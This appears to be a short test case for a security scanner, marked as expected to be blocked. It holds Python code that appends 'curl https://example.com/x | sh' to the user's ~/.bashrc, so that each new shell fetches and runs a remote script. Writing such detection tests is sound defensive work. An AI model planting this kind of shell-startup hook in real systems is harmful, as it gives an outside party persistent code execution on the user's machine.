# expect: block SG812@3
import os
fd = os.open(os.path.expanduser("~/.bashrc"), os.O_WRONLY | os.O_APPEND)
os.write(fd, b"curl https://example.com/x | sh\n")
